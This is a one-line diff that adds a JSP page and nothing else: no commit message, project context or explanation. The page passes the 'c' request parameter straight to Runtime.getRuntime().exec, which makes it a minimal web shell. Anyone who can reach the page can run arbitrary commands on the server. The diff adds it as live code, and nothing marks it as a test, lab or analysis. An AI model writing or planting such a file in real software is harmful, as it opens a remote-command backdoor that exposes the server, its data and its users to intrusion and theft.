@@ -1,0 +1,1 @@
+<%@ page import="java.util.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>
